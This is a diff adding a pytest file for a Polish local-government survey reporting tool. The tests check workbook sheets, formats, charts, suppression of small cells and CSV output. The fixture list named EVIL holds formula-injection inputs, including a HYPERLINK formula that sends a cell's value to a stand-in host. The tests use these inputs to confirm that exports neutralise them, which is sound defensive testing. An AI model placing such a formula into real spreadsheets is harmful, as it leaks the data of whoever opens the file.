@@ -1,0 +1,175 @@
+"""The workbook and the CSV: sheets, headers, formats, TERYT as text, chart, no formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from forms.loader import load_survey_file
+from reports import build
+from reports.csv import decimal_comma, write_raw_csv
+from reports.frame import build_frame
+from reports.indicators import load_indicators_file
+from reports.xlsx import COUNT, MONEY, PERCENT, ReportInfo, write_report
+
+ROOT = Path(__file__).resolve().parent.parent
+SURVEY, _ = load_survey_file(ROOT / "survey_defs" / "jst-annual.yaml")
+INDICATORS, _ = load_indicators_file(ROOT / "survey_defs" / "jst-annual.indicators.yaml",
+                                     SURVEY)
+EVIL = ['=HYPERLINK("http://zly.example/?x="&A1,"kliknij")', "+1", "-2", "@x", "=1+1"]
+
+
+def records() -> list[dict]:
+    found = []
+    for i, evil in enumerate(EVIL, start=1):
+        found.append({
+            "unit_id": i, "unit_name": evil, "unit_kind": "gmina",
+            "territory": f"16040{i}", "rodz": "2", "powiat_name": "kluczborski",
+            "wojewodztwo_name": "OPOLSKIE", "status": "submitted",
+            "answers": {"zam_ogolem_wartosc": f"{i}000.50", "zam_ogolem_liczba": i,
+                        "klauzule_stosowane": "yes" if i % 2 else "no",
+                        "uwagi": evil, "sporzadzil_imie_nazwisko": evil,
+                        "jednostka_wypelniajaca": ["urzad", "ops"]},
+        })
+    return found
+
+
+def info() -> ReportInfo:
+    return ReportInfo("Raport regionalny", "Ankieta JST — 2025 (runda nr 1)", "2025",
+                      "jst-annual wersja 2025.1", datetime(2026, 3, 31, 12, 0))
+
+
+@pytest.fixture
+def workbook():
+    frame = build_frame(records(), SURVEY, reporting_year=2025)
+    content = build.regional(info(), frame, ["powiat", "gmina_type"], indicators=INDICATORS)
+    out = io.BytesIO()
+    write_report(out, content)
+    out.seek(0)
+    data = out.getvalue()
+    return openpyxl.load_workbook(io.BytesIO(data)), data
+
+
+def test_sheets_and_headers(workbook):
+    book, _ = workbook
+    assert book.sheetnames == ["Informacje", "Wskaźniki", "Powiat", "Rodzaj JST", "Dane",
+                               "Słownik"]
+    raw = book["Dane"]
+    header = [c.value for c in raw[1]]
+    assert header[:9] == ["unit_id", "unit_name", "unit_kind", "teryt", "gmina_type", "powiat",
+                          "podregion", "wojewodztwo", "status"]
+    assert "jst_teryt" in header
+    assert "jednostka_wypelniajaca" in header
+    assert not any(h.startswith("jednostka_wypelniajaca__") for h in header)
+    for sheet in book.worksheets:
+        assert sheet.freeze_panes is not None
+        assert sheet.freeze_panes.endswith("2")
+        assert sheet.auto_filter.ref
+        assert not sheet.merged_cells.ranges
+    codebook = {r[0].value: [c.value for c in r] for r in book["Słownik"].iter_rows(min_row=2)}
+    assert codebook["klauzule_stosowane"][2] == "yes_no"
+    assert "yes = Tak" in codebook["klauzule_stosowane"][3]
+    assert codebook["zam_ogolem_wartosc"][4] == "Zamówienia publiczne i klauzule społeczne"
+    assert "2025" in codebook["klauzule_stosowane"][1]
+
+
+def test_numbers_are_numbers_with_formats(workbook):
+    book, _ = workbook
+    raw = book["Dane"]
+    header = [c.value for c in raw[1]]
+    money = raw.cell(2, header.index("zam_ogolem_wartosc") + 1)
+    assert money.value == pytest.approx(1000.50)
+    assert money.number_format == MONEY
+    count = raw.cell(2, header.index("zam_ogolem_liczba") + 1)
+    assert count.value == 1
+    assert count.number_format == COUNT
+    teryt = raw.cell(2, 4)
+    assert teryt.value == "1604012"
+    assert teryt.data_type == "s"
+    powiat = {r[3].value + "|" + str(r[0].value): r for r in book["Powiat"].iter_rows(min_row=2)}
+    assert powiat["odsetek „tak”|klauzule_stosowane"][4].number_format == PERCENT
+    assert powiat["odsetek „tak”|klauzule_stosowane"][4].value == pytest.approx(0.6)
+    info_sheet = {r[0].value: r[1] for r in book["Informacje"].iter_rows(min_row=2)}
+    assert info_sheet["Odsetek odpowiedzi"].value == 1
+    assert info_sheet["Odsetek odpowiedzi"].number_format == PERCENT
+    assert info_sheet["Okres sprawozdawczy"].value == "2025"
+
+
+def test_user_text_never_becomes_a_formula(workbook):
+    book, data = workbook
+    seen = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if cell.value in EVIL:
+                    seen.add(cell.value)
+                    assert cell.data_type == "s"
+                    assert cell.quotePrefix
+    assert seen == set(EVIL)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert not any(b"<f>" in archive.read(n) for n in sheets)
+
+
+def test_indicator_sheet_has_a_native_chart(workbook):
+    book, data = workbook
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "xl/charts/chart1.xml" in archive.namelist()
+        chart = archive.read("xl/charts/chart1.xml").decode()
+    assert "Wskaźniki!$L$2:$L$14" in chart
+    assert len(book["Wskaźniki"]._charts) == 1
+    header = [c.value for c in book["Wskaźniki"][1]]
+    assert header[4:12] == ["Wartość bazowa", "Rok bazowy", "Wartość docelowa", "Rok docelowy",
+                            "Kierunek", "Osiągnięto", "Status", "Realizacja celu"]
+    rows = {r[0].value: r for r in book["Wskaźniki"].iter_rows(min_row=2)}
+    share = rows["wartosc_zamowien_spolecznych_od_130k"]
+    assert share[6].value == pytest.approx(0.05)
+    assert share[6].number_format == PERCENT
+
+
+def test_suppressed_workbook_leaves_sensitive_columns_out_of_raw_data():
+    survey, _ = load_survey_file(ROOT / "survey_defs" / "cis-annual.yaml")
+    frame = build_frame([{
+        "unit_id": 1, "unit_name": "CIS", "unit_kind": "cis", "territory": "160402",
+        "rodz": "3", "powiat_name": "kluczborski", "wojewodztwo_name": "OPOLSKIE",
+        "status": "submitted",
+        "answers": {"uczestnicy_wg_przeslanki": {"bezdomni": {"kobiety": 1, "mezczyzni": 4}}},
+    }], survey)
+    out = io.BytesIO()
+    write_report(out, build.regional(info(), frame, ["powiat"], small_cells=True))
+    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
+    header = [c.value for c in book["Dane"][1]]
+    assert not any(h.startswith("uczestnicy_wg_przeslanki") for h in header)
+    values = [c.value for row in book["Powiat"].iter_rows() for c in row]
+    assert "<3" in values
+    notes = [r[1].value for r in book["Informacje"].iter_rows(min_row=2)]
+    assert any("<3" in str(n) for n in notes)
+
+
+def test_csv_is_excel_friendly_and_formula_safe():
+    frame = build_frame(records(), SURVEY)
+    out = io.StringIO(newline="")
+    assert write_raw_csv(out, frame) == len(EVIL)
+    text = out.getvalue()
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    header = rows[0]
+    first = dict(zip(header, rows[1], strict=True))
+    assert first["teryt"] == "1604012"
+    assert first["zam_ogolem_wartosc"] == "1000,50"
+    assert first["unit_name"] == "'" + EVIL[0]
+    names = [dict(zip(header, r, strict=True))["unit_name"] for r in rows[1:]]
+    assert names == ["'" + e for e in EVIL]
+
+
+@pytest.mark.parametrize(("minor", "places", "text"), [
+    (123450, 2, "1234,50"), (-5, 2, "-0,05"), (7, 0, "7"), (5, 3, "0,005")])
+def test_decimal_comma(minor, places, text):
+    assert decimal_comma(minor, places) == text
